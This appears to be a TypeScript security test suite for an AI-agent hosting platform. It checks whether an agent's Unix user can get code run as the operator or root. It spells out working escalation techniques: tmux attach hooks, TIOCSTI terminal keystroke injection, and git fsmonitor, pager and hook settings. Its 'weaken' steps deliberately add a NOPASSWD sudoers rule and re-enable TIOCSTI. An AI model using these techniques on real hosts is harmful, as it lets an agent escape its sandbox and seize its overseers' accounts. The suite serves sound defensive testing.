import type { Attack } from "./attack.ts";
import { run, SOCKET, type Target, WORKSPACES } from "./target.ts";

/** Where everybody may leave a word: what ran, and as whom. */
const EVIDENCE = "/srv/evidence";
const ATTACH = "/etc/agentworks/bin/session-attach";
/** Attaching the way that 0.3.0 did: the client is root's, and the server the agent's. */
const CLIENT_OF_ROOT = `cp -p ${ATTACH} /root/; printf '#!/bin/bash\\nexec sudo tmux -S ${SOCKET} attach-session -t =own\\n' >${ATTACH}
  echo 'agt-mallory ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/weak`;
const CLIENT_OF_ITS_USER = `mv /root/session-attach ${ATTACH}; rm /etc/sudoers.d/weak; rm -f ${EVIDENCE}/*`;

/** A program that tells who runs it. */
export async function layPayload(target: Target): Promise<void> {
  await target.root(`install -d -m 1777 ${EVIDENCE}
    printf '#!/bin/bash\\nid >>${EVIDENCE}/$RANDOM$RANDOM\\n' >/srv/payload; chmod 755 /srv/payload`);
}

/** Who ran the payload since it was asked last. */
export const culprits = (target: Target): Promise<string> =>
  target.root(`shopt -s nullglob; cat /dev/null ${EVIDENCE}/* | sort -u; rm -f ${EVIDENCE}/*`);

/** What a server can make of a client that comes: each is set while nobody is attached, and the operator attaches. */
const HOOKS: Readonly<Record<string, string>> = {
  "commands at its coming, and another program in place of its client":
    'set-hook -g client-attached[0] "run-shell /srv/payload" ; set-hook -g client-attached[1] "if-shell /srv/payload true" ; set-hook -g client-attached[2] "detach-client -E /srv/payload"',
  "a lock command": "set -g lock-command /srv/payload ; set-hook -g client-attached lock-client",
};

const HOSTILE_REPOSITORY = `cd ${WORKSPACES}/shared && rm -rf .git && git init -q . && git config core.fsmonitor /srv/payload
git config core.pager /srv/payload; git config core.editor /srv/payload; printf '#!/bin/bash\\n/srv/payload\\n' >.git/hooks/pre-commit
chmod 755 .git/hooks/pre-commit`;

/** The operator comes to a session, or runs a command of an agent's. Nothing may run as anybody but the agent. */
export const ATTACH_ATTACKS: readonly Attack[] = [
  {
    name: `who attaches is given ${Object.keys(HOOKS).join(", ")}`,
    tries: async (target) => {
      for (const hook of Object.values(HOOKS)) {
        await target.as("agt-mallory", `tmux -S ${SOCKET} ${hook.replaceAll(" ; ", " \\; ")}`);
        await target.onTerminal(3, ["session", "attach", "own"]);
        await target.as("agt-mallory", `tmux -S ${SOCKET} set-hook -gu client-attached`);
      }
      const said = await culprits(target);
      // An attack that did nothing at all would prove nothing either.
      return said.includes("uid=") ? `${said}\ntried` : said;
    },
    won: /uid=0\(root\)|agentworks\) gid/,
    weaken: CLIENT_OF_ROOT,
    restore: CLIENT_OF_ITS_USER,
  },
  {
    name: "who attaches is typed for, after the payload has come into its terminal",
    tries: async (target) => {
      await target.as(
        "agt-mallory",
        `cat >~/type.pl <<'END'
for (split //, "/srv/payload\\n" x 3) { ioctl(STDIN, 0x5412, $_) }
END
        tmux -S ${SOCKET} set-hook -g client-attached "detach-client -E 'perl $HOME/type.pl'"`,
      );
      await target.onTerminal(3, ["session", "attach", "own"]);
      await target.as("agt-mallory", `tmux -S ${SOCKET} set-hook -gu client-attached`);
      return `${await culprits(target)}\ntried`;
    },
    won: /uid=0\(root\)|agentworks\) gid/,
    // A shell of the admin's waits in the terminal that the client leaves: what a console of 0.3.0 was.
    weaken: `${CLIENT_OF_ROOT}; printf '#!/bin/bash\\nsudo -u agt-mallory tmux -S ${SOCKET} attach-session -t =own; exec sudo bash --norc\\n' >${ATTACH}
      [[ ! -e /proc/sys/dev/tty/legacy_tiocsti ]] || echo 1 >/proc/sys/dev/tty/legacy_tiocsti; echo 'Defaults !use_pty' >>/etc/sudoers.d/weak`,
    restore: CLIENT_OF_ITS_USER,
  },
  {
    name: "git of the admin and of root, by a repository's own settings",
    tries: async (target) => {
      await target.as("agt-mallory", HOSTILE_REPOSITORY);
      for (const user of ["agentworks", "root"])
        await target.as(
          user,
          `cd ${WORKSPACES}/shared && git --paginate status; git --paginate log; git commit --allow-empty -m x`,
        );
      await target.agw("workspace", "describe", "shared");
      await target.agw("vm", "describe", "dev");
      return `${await culprits(target)}\ntried`;
    },
    won: /uid=0\(root\)|agentworks\) gid/,
    weaken: "git config --system --add safe.directory '*'",
    restore: "rm /etc/gitconfig",
  },
  {
    name: "the admin's terminal is typed into, by what the admin runs as the agent",
    tries: async (target) => {
      await target.as(
        "agt-mallory",
        `cat >~/type.pl <<'END'
for (split //, "/srv/payload\\n") { ioctl(STDIN, 0x5412, $_) }
END
        chmod 711 ~; chmod 644 ~/type.pl`,
      );
      const typed = "{ echo 'sudo -u agt-mallory perl /home/agt-mallory/type.pl'; sleep 1.5; echo exit; }";
      const login = target.guest.sshArgv("root", "bash --norc -i").map((word) => word.replace(/^root@/, "agentworks@"));
      await run(["bash", "-c", `${typed} | ssh -tt "$@"`, ...login]);
      return `${await culprits(target)}\ntried`;
    },
    won: /agentworks\) gid/,
    weaken: `sed -i.kept 's/use_pty/!use_pty/' /etc/sudoers.d/agentworks
      [[ ! -e /proc/sys/dev/tty/legacy_tiocsti ]] || echo 1 >/proc/sys/dev/tty/legacy_tiocsti`,
    restore: "mv /etc/sudoers.d/agentworks.kept /etc/sudoers.d/agentworks",
  },
];
